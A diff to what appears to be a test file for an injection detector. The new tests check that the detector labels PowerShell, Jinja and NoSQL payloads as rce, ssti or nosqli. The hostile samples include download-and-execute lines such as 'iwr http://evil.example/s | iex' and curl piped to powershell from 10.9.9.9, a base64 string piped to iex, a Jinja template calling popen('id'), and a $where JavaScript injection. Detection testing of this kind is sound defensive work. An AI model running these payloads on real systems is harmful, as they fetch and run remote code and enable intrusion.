@@ -87,3 +87,12 @@ t.test('hostile shapes: long, many lines, no line breaks, nested collections', a
   t.equal(`@{${"'a' = 1;".repeat(20_000)}`.replace(PS_LITERAL_COLLECTION, 'L').length, 160_002, 'an unclosed hashtable of 20,000 pairs')
   t.same(field(`${'$x -eq 1\n'.repeat(1000)}iwr http://evil.example/s | iex\n`), ['rce'], 'a script of 1,000 lines with a download run at once')
 })
+
+t.test("the review's payloads: a template in a literal array, JavaScript for $where, downloads piped on, comment lines as evidence", async (t) => {
+  t.ok(field('$targets = @(\'{{ lipsum.__globals__["os"].popen("id").read() }}\', 2)\nforeach ($t in $targets) {\n    Write-Output $t\n}\n').includes('ssti'), 'Jinja in a quoted item')
+  t.ok(field("a'; return true; var z = /*\n$a = Get-Item $x\n$b = Get-Item $y\n$c = Get-Item $z\n*/ '").includes('nosqli'), "a $where's JavaScript around three PowerShell lines")
+  const report = (line: string) => `function Get-Report {\n    param($Name)\n    $items = Get-ChildItem -Path $Name | Where-Object { $_.Length -gt 0 }\n    ${line}\n    $items | Select-Object -First 5\n}\n`
+  for (const line of ['curl.exe -s http://10.9.9.9/p.ps1 | powershell -', 'iwr http://10.9.9.9/p.ps1 | powershell -noprofile -', "[Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('SQBFAFgA')) | iex"]) t.ok(field(report(line)).includes('rce'), line)
+  t.notOk(powershellProgram('x; id\n# get-help a\n# get-help b\n# get-help c\n'), 'comment lines are no evidence')
+  t.ok(field('x; id\n# Get-Help a\n# Get-Help b\n# Get-Help c\n').includes('rce'), 'and the value is judged as any')
+})
